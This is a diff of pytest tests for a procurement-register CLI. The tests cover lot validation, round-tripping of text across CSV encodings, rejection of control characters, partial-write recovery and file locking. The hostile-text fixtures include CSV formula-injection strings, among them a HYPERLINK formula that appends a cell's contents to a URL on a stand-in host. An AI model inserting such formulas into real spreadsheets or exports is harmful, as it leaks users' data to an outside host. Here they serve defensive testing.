@@ -123,9 +123,17 @@ def test_add_lot_and_its_refusals(money_dir):
                      planned_announce=date(2023, 6, 1))
     assert values["estimate"] == "1500000.00"
     lots = (money_dir / "procurement" / "lots.csv").read_text().splitlines()
-    assert lots[-1] == "L2,7.2,Маски,auction,1500000.00,KZT,,2023-06-01,,"
+    # no law given: the one in force on the planned announcement date
+    assert lots[-1] == "L2,7.2,Маски,auction,1500000.00,KZT,,2023-06-01,,434-V"
     for args, message in [(("L2", "7.2", "auction", "1"), "повторяется"),
                           (("L3", "1.1", "auction", "1"), "не требует финансирования"),
+                          (("L3", "8.1", "auction", "1"), "не требует госзакупки"),
+                          (("L3", "7.2", "auction", "1", "", "KZT", "", None, None, "99-X"),
+                           "неизвестная редакция закона"),
+                          (("L3", "7.2", "auction", "=1+2"), "неверная сумма"),
+                          (("L3", "7.2", "auction", "١٠٠٠"), "неверная сумма"),
+                          (("L3", "7.2", "auction", "10000000000000.01"), "больше"),
+                          (("L3\x00", "7.2", "auction", "1"), "управляющий символ U\\+0000"),
                           (("L3", "7.2", "tender", "1"), "неизвестный способ"),
                           (("L3", "99.9", "auction", "1"), "неизвестное мероприятие"),
                           (("L3", "7.2", "auction", "abc"), "неверная сумма")]:
@@ -133,6 +141,14 @@ def test_add_lot_and_its_refusals(money_dir):
             add_lot(data, *args)
     assert (money_dir / "procurement" / "lots.csv").read_text().splitlines() == lots
     assert load(money_dir).problems == []
+
+
+@pytest.mark.parametrize(("planned", "law"), [(date(2024, 12, 31), "434-V"),
+                                               (date(2025, 1, 1), "106-VIII")])
+def test_add_lot_derives_the_law_from_the_planned_announcement(money_dir, planned, law):
+    values = add_lot(DataDir(money_dir), "L2", "7.2", "auction", "100",
+                     planned_announce=planned)
+    assert values["law"] == law
 
 
 def test_a_new_register_is_created_with_its_header(data_dir):
@@ -215,3 +231,162 @@ def test_a_process_killed_while_recording_leaves_the_file_valid(money_dir, tmp_p
         written = set(project.events["document"])
         assert set(acknowledged) <= written
     assert len(acknowledged) > 0
+
+
+# --- hostile text, partial writes, encodings, locks (issue 10) ------------------------------
+
+TEXTS = {
+    "lone CR": "a\rb", "LF": "a\nb", "CRLF": "a\r\nb", "comma": "a,b", "semicolon": "a;b",
+    "tab": "a\tb", "quote": 'a "b" c', "formula": '=HYPERLINK("http://x/?"&B2,"ok")',
+    "plus": "+1+2", "at": "@SUM(A1)", "Cyrillic": "Доп. соглашение №2 «А»",
+    "Kazakh": "ТОО Қазақ Әліпбиі ғ ң ө ұ ү һ і", "emoji": "🙂 ok", "line separator": "a\u2028b",
+    "lone CR at the end": "abc\r", "private use": "a\ue001b",
+}
+
+
+@pytest.mark.parametrize("flavour", ["utf8", "utf8_crlf", "utf8_bom_semicolon", "sep_line",
+                                     "utf16"])
+def test_every_character_class_round_trips(money_dir, flavour):
+    """Whatever is typed comes back as typed (trimmed at the ends), in any register style."""
+    text = EVENTS
+    if flavour == "utf8_crlf":
+        data = text.replace("\n", "\r\n").encode()
+    elif flavour == "utf8_bom_semicolon":
+        data = b"\xef\xbb\xbf" + text.replace(",", ";").encode()
+    elif flavour == "sep_line":
+        data = ("sep=;\r\n" + text.replace(",", ";").replace("\n", "\r\n")).encode()
+    elif flavour == "utf16":
+        data = b"\xff\xfe" + text.encode("utf-16-le")
+    else:
+        data = text.encode()
+    events_file(money_dir).write_bytes(data)
+    for day, note in enumerate(TEXTS.values(), start=11):
+        record(money_dir, "L1", "amended", date(2023, 7, day), amount="9500000",
+               supplier=note, document=note, note=note)
+    project = load(money_dir)
+    assert project.problems == []
+    got = project.events.loc[project.events["note"] != "", ["note", "supplier", "document"]]
+    expected = [value.strip() for value in TEXTS.values()]
+    assert got["note"].tolist() == expected
+    assert got["document"].tolist() == expected
+    # a supplier's name is one line: its whitespace is collapsed on purpose
+    assert got["supplier"].tolist() == [" ".join(value.split()) for value in TEXTS.values()]
+    raw = events_file(money_dir).read_bytes()
+    if flavour == "utf16":
+        assert raw.count(b"\xff\xfe") == 1  # no second BOM in the middle
+    assert raw.startswith(data)
+
+
+def test_control_characters_are_refused(money_dir):
+    before = events_file(money_dir).read_bytes()
+    for bad in ("a\x00b", "a\x1bb", "a\x7fb"):
+        with pytest.raises(RecordError, match="управляющий символ") as info:
+            record(money_dir, "L1", "delivered", date(2023, 8, 1), note=bad)
+        assert info.value.field == "note"
+    assert events_file(money_dir).read_bytes() == before
+
+
+FSIZE_SCRIPT = """
+import resource, sys
+from mics_budget.cli import main
+limit = int(sys.argv[1])
+resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+sys.exit(main(sys.argv[2:]))
+"""
+
+
+@pytest.mark.parametrize("room", [0, 7])
+def test_a_write_cut_short_is_undone_and_never_acknowledged(money_dir, tmp_path, room):
+    """A file-size limit (like a full disk) lets only part of the line through: the file is
+    cut back to what it was, the command says so and exits 2."""
+    script = tmp_path / "limited.py"
+    script.write_text(FSIZE_SCRIPT)
+    before = events_file(money_dir).read_bytes()
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1]), "MICS_LANG": "ru"}
+    proc = subprocess.run(
+        [sys.executable, str(script), str(len(before) + room), "procurement", "record", "L1",
+         "delivered", "--date", "2023-08-01", "--note", "x" * 200, "--data", str(money_dir)],
+        capture_output=True, text=True, env=env)
+    assert proc.returncode == 2, proc.stderr
+    assert "не удалась" in proc.stderr and "ничего не записано" in proc.stderr
+    assert "записано: лот" not in proc.stderr
+    assert events_file(money_dir).read_bytes() == before
+    assert load(money_dir).problems == []
+
+
+def test_a_new_register_that_cannot_be_written_is_refused_cleanly(data_dir, tmp_path):
+    script = tmp_path / "limited.py"
+    script.write_text(FSIZE_SCRIPT)
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])}
+    proc = subprocess.run(
+        [sys.executable, str(script), "10", "procurement", "add-lot", "N1", "--activity", "7.3",
+         "--method", "e_shop", "--estimate", "1000", "--data", str(data_dir)],
+        capture_output=True, text=True, env=env)
+    assert proc.returncode == 2 and "не удалась" in proc.stderr, proc.stderr
+    assert not (data_dir / "procurement" / "lots.csv").exists()
+
+
+def test_kazakh_letters_into_a_windows_1251_register_are_refused_then_converted(money_dir,
+                                                                               capsys):
+    russian = EVENTS.replace(",", ";").replace("\n", "\r\n")
+    events_file(money_dir).write_bytes(russian.encode("cp1251"))
+    before = events_file(money_dir).read_bytes()
+    code = main(["procurement", "record", "L1", "delivered", "--date", "2023-08-01",
+                 "--supplier", "ТОО Қазақ Әліпбиі", "--data", str(money_dir)])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert "символ «Қ» (U+049A) нельзя записать в events.csv" in err
+    assert "Windows-1251" in err and "mics-budget to-utf8" in err
+    assert "внутренняя ошибка" not in err
+    assert events_file(money_dir).read_bytes() == before
+    assert main(["to-utf8", "--data", str(money_dir)]) == 0
+    assert "procurement/events.csv: Windows-1251 → UTF-8" in capsys.readouterr().err
+    converted = events_file(money_dir).read_bytes()
+    assert converted.startswith(b"\xef\xbb\xbf")
+    assert converted[3:].decode("utf-8") == russian  # every character, separator, line end
+    assert main(["procurement", "record", "L1", "delivered", "--date", "2023-08-01",
+                 "--supplier", "ТОО Қазақ Әліпбиі", "--data", str(money_dir)]) == 0
+    project = load(money_dir)
+    assert project.problems == []
+    assert project.events["supplier"].iloc[-1] == "ТОО Қазақ Әліпбиі"
+    assert main(["to-utf8", "--data", str(money_dir)]) == 0
+    assert "уже в UTF-8" in capsys.readouterr().err
+
+
+def test_a_busy_register_says_so_and_exits_2(money_dir, monkeypatch, capsys):
+    from filelock import FileLock
+
+    from mics_budget import recording
+
+    monkeypatch.setattr(recording, "LOCK_TIMEOUT", 0.2)
+    before = events_file(money_dir).read_bytes()
+    with FileLock(f"{events_file(money_dir)}.lock"):
+        code = main(["procurement", "record", "L1", "delivered", "--date", "2023-08-01",
+                     "--data", str(money_dir)])
+    err = capsys.readouterr().err
+    assert code == 2
+    assert "занят другой записью" in err and "повторите" in err
+    assert "Timeout" not in err and "внутренняя" not in err
+    assert events_file(money_dir).read_bytes() == before
+
+
+def test_a_refused_record_creates_nothing_in_a_folder_that_does_not_exist(tmp_path, capsys):
+    missing = tmp_path / "no-such-data"
+    for argv in (["procurement", "record", "L1", "delivered", "--date", "2023-08-01"],
+                 ["procurement", "add-lot", "L1", "--activity", "7.1", "--method", "auction",
+                  "--estimate", "1"]):
+        assert main([*argv, "--data", str(missing)]) == 2
+        assert "папка данных не найдена" in capsys.readouterr().err
+    assert not missing.exists()
+
+
+def test_a_record_without_any_register_creates_nothing(data_dir):
+    with pytest.raises(RecordError, match="не найден"):
+        record(data_dir, "L1", "announced", date(2023, 8, 1))
+    assert not (data_dir / "procurement").exists()
+
+
+def test_two_candidate_registers_are_refused(money_dir):
+    (money_dir / "procurement" / "events.xlsx").write_bytes(b"PK\x03\x04")
+    with pytest.raises(RecordError, match="несколько файлов"):
+        record(money_dir, "L1", "delivered", date(2023, 8, 1))
